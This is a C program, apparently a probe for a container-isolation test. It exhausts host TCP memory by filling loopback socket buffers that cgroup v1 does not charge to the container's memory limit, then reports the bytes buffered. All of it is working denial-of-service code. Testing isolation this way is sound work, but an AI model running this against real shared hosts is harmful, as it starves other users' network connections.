/*
 * tcpbomb.c -- ATTACK: exhaust the host's TCP memory through socket buffers.
 *
 * Usage: ./tcpbomb MARKER CHILDREN
 * TCP socket buffers are kernel memory that cgroup v1 charges to a memory cgroup only once its
 * memory.kmem.tcp.limit_in_bytes is written; uncharged they fill the host-wide tcp_mem, and
 * every socket of the host is then under memory pressure.  CHILDREN processes each connect as
 * many loopback pairs as their descriptors allow, ask for 1 GiB buffers (the kernel caps them)
 * and write without reading until the kernel refuses, then hold them for a moment.  Every child
 * prints "BUFFERED <bytes>"; the parent prints "DONE".  The host test adds the numbers up: far
 * more than the memory limit buffered means kernel memory escaped the limit.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static char chunk[65536];

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int children = atoi(argv[2]);
    memset(chunk, 'x', sizeof chunk);
    int l = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t al = sizeof a;
    if (l < 0 || bind(l, (struct sockaddr *)&a, al) < 0 || listen(l, 4096) < 0 ||
        getsockname(l, (struct sockaddr *)&a, &al) < 0) {
        perror("listen");
        return 1;
    }
    for (int i = 0; i < children; i++) {
        pid_t p = fork();
        if (p < 0) {
            printf("FORK FAILED\n");
            fflush(stdout);
            break;
        }
        if (p > 0) continue;
        long total = 0;
        int big = 1 << 30;
        for (;;) {
            int c = socket(AF_INET, SOCK_STREAM, 0);
            if (c < 0) break;
            setsockopt(c, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
            if (connect(c, (struct sockaddr *)&a, sizeof a) < 0) break;
            int s = accept(l, NULL, NULL);
            if (s < 0) break;
            setsockopt(s, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
            fcntl(c, F_SETFL, O_NONBLOCK);
            for (;;) {
                ssize_t w = write(c, chunk, sizeof chunk);
                if (w <= 0) break;
                total += w;
            }
        }
        printf("BUFFERED %ld\n", total);
        fflush(stdout);
        sleep(2);
        _exit(0);
    }
    while (wait(NULL) > 0) {
    }
    printf("DONE\n");
    fflush(stdout);
    return 0;
}
